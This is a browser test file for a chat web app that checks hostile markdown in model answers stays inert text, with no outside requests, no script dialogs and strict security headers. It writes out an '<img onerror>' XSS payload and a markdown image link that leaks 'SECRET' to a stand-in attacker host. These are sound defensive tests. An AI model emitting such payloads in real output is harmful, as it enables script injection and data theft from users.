"""What a model writes stays text: nothing of it runs, loads or leads anywhere unasked."""

from __future__ import annotations

import json
from collections.abc import Callable
from urllib.parse import urlsplit

from playwright.sync_api import BrowserContext, expect

from chatapp.settings import ROOT
from tests.browser._chat import Chat
from tests.support.pages import sign_in
from tests.support.site import Site

PAYLOADS: list[str] = json.loads((ROOT / "tests" / "data" / "hostile_markdown.json").read_text())

# Feeds each text to the page's own view, letter by letter, and says what of the result is not on the list.
RENDER = """async (texts) => {
  const { MarkdownView } = await import("/static/js/markdown.js");
  const allowed = new Set(`P H3 H4 UL OL LI BLOCKQUOTE HR DIV PRE CODE BUTTON SPAN TABLE THEAD TBODY
    TR TH TD STRONG EM DEL BR A svg use`.split(/\\s+/));
  const attributes = new Set(`class dir href rel target title tabindex role aria-label aria-hidden type
    data-act data-language data-align start`.split(/\\s+/));
  const bad = [];
  const check = (root, text) => {
    for (const node of root.querySelectorAll("*")) {
      if (!allowed.has(node.nodeName)) bad.push([text, node.nodeName]);
      for (const { name, value } of node.attributes) {
        if (!attributes.has(name)) bad.push([text, node.nodeName, name]);
        const own = node.nodeName === "use" && value.startsWith("#i-");
        if (name === "href" && !own && !/^(https?:[/][/]|mailto:)/.test(value)) bad.push([text, name, value]);
        if (name === "start" && !/^[0-9]+$/.test(value)) bad.push([text, name, value]);
      }
    }
  };
  for (const text of texts) {
    const root = document.createElement("div");
    document.body.append(root);
    const view = new MarkdownView(root);
    for (let end = 1; end <= text.length; end++) {
      view.update(text.slice(0, end), true);
      check(root, text);
    }
    view.update(text);
    check(root, text);
    const fresh = document.createElement("div");
    new MarkdownView(fresh).update(text);
    check(fresh, text);
    if (fresh.innerHTML !== root.innerHTML) bad.push([text, "grew otherwise", fresh.innerHTML, root.innerHTML]);
    root.remove();
  }
  return bad;
}"""


def watch(context: BrowserContext, site: Site) -> tuple[list[str], list[str]]:
    """Return two lists that fill: requests to elsewhere, and dialogs."""
    strayed: list[str] = []
    dialogs: list[str] = []
    context.on("request", lambda request: strayed.append(request.url) if leaves(request.url, site) else None)
    context.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    return strayed, dialogs


def leaves(url: str, site: Site) -> bool:
    return urlsplit(url).netloc != urlsplit(site.url).netloc and not url.startswith("data:image/svg+xml")


def test_hostile_markdown_stays_text_at_every_letter(new_context: Callable[..., BrowserContext], site: Site) -> None:
    assert len(set(PAYLOADS)) >= 60
    context = new_context(bypass_csp=True)  # the policy must not be what saves the page
    sign_in(context, site)
    strayed, dialogs = watch(context, site)
    page = context.new_page()
    page.goto(site.url)
    bad = page.evaluate(RENDER, PAYLOADS)
    assert not bad, bad[:20]
    assert not strayed
    assert not dialogs


def test_a_hostile_answer_neither_runs_nor_loads_anything(
    new_context: Callable[..., BrowserContext], site: Site
) -> None:
    context = new_context(bypass_csp=True)
    client = sign_in(context, site, name="<img src=x onerror=alert(1)>")
    strayed, dialogs = watch(context, site)
    chat = Chat(context.new_page(), site).open(model="echo,delay=0.001")
    chat.prompt.fill("\n\n".join(PAYLOADS))
    chat.prompt.press("Enter")
    chat.ended()
    expect(chat.text).to_contain_text("THE LAST ONE")
    chat.page.reload()
    expect(chat.text).to_contain_text("THE LAST ONE")
    conversation = chat.page.url.rsplit("/", 1)[1]
    client.call("PATCH", f"/api/chat/conversations/{conversation}", {"title": "<img src=x onerror=alert(1)>"})
    chat.page.reload()
    expect(chat.page.locator("h1")).to_have_text("<img src=x onerror=alert(1)>")
    expect(chat.items).to_have_text(["<img src=x onerror=alert(1)>"])
    assert (
        chat.page.locator("img, iframe, script:not([src]):not([type='application/json']), chat-thread style").count()
        == 0
    )
    assert not strayed
    assert not dialogs


def test_the_page_forbids_what_it_does_not_need(new_context: Callable[..., BrowserContext], site: Site) -> None:
    context = new_context()
    sign_in(context, site)
    response = context.request.get(site.url)
    policy = response.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert "frame-ancestors 'none'" in policy
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["referrer-policy"] == "no-referrer"
    text = response.text()
    assert " style=" not in text
    assert "<script>" not in text
    assert " onclick=" not in text


def test_an_image_is_a_link_that_has_to_be_pressed(new_context: Callable[..., BrowserContext], site: Site) -> None:
    context = new_context()
    client = sign_in(context, site)
    strayed, _ = watch(context, site)
    text = "![plan](https://evil.example/?q=SECRET) ![x][r]\n\n[r]: https://evil.example/r.png"
    started, _ = client.ask(text, "openai/echo")
    chat = Chat(context.new_page(), site).open(f"/c/{started['conversationId']}")
    link = chat.text.locator("a").first
    expect(link).to_have_text("plan")
    expect(link).to_have_attribute("href", "https://evil.example/?q=SECRET")
    expect(link).to_have_attribute("title", "https://evil.example/?q=SECRET")
    assert not strayed
